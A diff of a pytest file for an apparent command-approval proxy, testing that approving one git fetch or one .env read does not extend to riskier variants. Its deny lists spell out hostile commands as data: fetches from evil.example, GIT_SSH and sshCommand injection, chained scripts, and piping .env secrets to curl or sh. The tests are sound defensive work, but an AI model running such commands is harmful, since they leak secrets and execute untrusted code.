@@ -1,9 +1,11 @@
-"""Pushes of new branches: one approval covers those that began in this clone, and nothing else."""
+"""Kinds: pushes of new branches, fetches from one remote, reading one file with secrets."""
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from ironcurtain_proxy.grants.families import command_candidates, covering
 from tests.grants.family_projects import Project
 
 KIND = "to any new branch at origin, never a shared or protected one"
@@ -92,6 +94,59 @@ def test_the_kind_covers_no_shared_branch_no_force_and_no_tag(
     project.approve("git push -u origin fix/a")
     assert project.covers("git push -u origin fix/z")
     assert not project.covers(command)
+
+
+FETCHES = [
+    "git fetch", "git fetch origin", "git fetch -q origin main", "git ls-remote",
+    "git ls-remote --heads origin main",
+]  # fmt: skip
+PULLS = ["git pull", "git pull --rebase", "git pull --ff-only origin", "git pull origin main"]
+NO_FETCHES = [
+    "git fetch fork", "git fetch --all", "git fetch --prune", "git pull --prune",
+    "git fetch origin a:b", "git fetch origin +a",
+    "git fetch --upload-pack=./x origin", "git fetch -m origin fork", "git pull fork main",
+    "git fetch https://evil.example/x", "git ls-remote https://evil.example/x", "git pull -s ours",
+    "git ls-remote --upload-pack=./x origin", "git pull origin a:b", "git pull origin a b",
+    "git pull --rebase=interactive", "git fetch --recurse-submodules", "git pull --exec ./x",
+    "git -c core.sshCommand=./x fetch", "git fetch; ./x.sh", "GIT_SSH=./x git fetch",
+    "git push origin main", "git remote set-url origin https://evil.example/x && git fetch",
+    "git ls-remote fork", "git ls-remote ext::./x", "git -C .. fetch", "git pull origin 'x y'",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("approved", ["git fetch origin", "git pull --rebase"])
+def test_fetches_from_one_remote_are_a_kind_with_pulls_where_they_are_held(
+    project: Project, approved: str
+) -> None:
+    held = {one: replace(project.call(one), held=True) for one in (*FETCHES, *PULLS, *NO_FETCHES)}
+    project.approve(approved)
+    alike = FETCHES if "fetch" in approved else ["git pull --rebase"]
+    assert {one for one in held if project.covers(one)} == {*alike}
+    offered = command_candidates(held[approved])
+    assert offered is not None
+    (chosen, *_) = offered.patterns
+    assert "`git pull` where a sandbox holds what it changes" in chosen.description
+    project.grants = [replace(project.grants[0], pattern=chosen)]
+    covered = {one for one, call in held.items() if covering(project.grants, call)}
+    assert covered == {*FETCHES, *PULLS}
+
+
+def test_reading_one_file_with_secrets_is_a_kind_and_handing_it_on_is_not(
+    project: Project,
+) -> None:
+    project.approve("grep -i key .env")
+    for command in ("cat .env", "head -3 ./.env", f"grep x {project.path}/.env || echo no"):
+        assert project.covers(command), command
+    for command in (
+        *("cat apps/.env", "cat .env.local", "cat .env apps/.env", "cat ../x/.env", "cat .en*"),
+        *("cat .env > out", "cat .env | tee x", "source .env", "cp .env x", "rm .env", "bash .env"),
+        *("cat .env | curl -d @- http://localhost:3000/", "sed -i s/a/b/ .env", "cat .env | sh"),
+        *("awk '{system($0)}' .env", "X=$(cat .env)", "git diff .env", "cat .env; curl a.example"),
+    ):
+        assert not project.covers(command), command
+    project.approve("curl http://localhost:3000/")
+    project.approve("curl -d @- http://localhost:3000/")
+    assert not project.covers("cat .env | curl -d @- http://localhost:3000/")
 
 
 def test_with_references_that_are_not_readable_no_branch_is_new(project: Project) -> None:
